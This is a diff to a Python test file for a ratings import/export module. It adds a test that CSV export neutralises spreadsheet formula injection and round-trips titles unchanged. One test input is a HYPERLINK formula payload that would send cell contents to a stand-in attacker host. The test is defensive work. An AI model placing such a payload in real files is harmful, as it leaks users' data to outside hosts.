@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 import time
-from datetime import date, timedelta
+from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -412,3 +414,26 @@ def test_a_large_ratings_file_imports_in_a_few_queries(
     assert (report.imported, len(report.unknown_papers)) == (2, 5000)
     assert len(statements) < 50  # not two per row: 100,000 rows took 24 s so
     assert [r.vote for r in rated_app.ratings(EMAIL, history=True)] == ["up", "down"]
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1 for Scaling",
+        "-based Retrieval",
+        "@SUM(1+1)",
+        "'=already quoted",
+        "''=twice",
+        "'plain quote",
+        "Plain = Title",
+    ],
+)
+def test_a_csv_export_holds_no_formula_a_spreadsheet_would_run_and_imports_unchanged(
+    title: str,
+) -> None:
+    records = [ratings_io.RatingRecord("", title, "up", "web", datetime(2026, 3, 21, tzinfo=UTC))]
+    text = ratings_io.write_ratings(records, "csv")
+    fields = [value for row in csv.reader(io.StringIO(text)) for value in row]
+    assert not any(value.startswith(ratings_io.FORMULA_STARTS) for value in fields)
+    assert ratings_io.read_ratings(text, "csv", "r.csv") == records
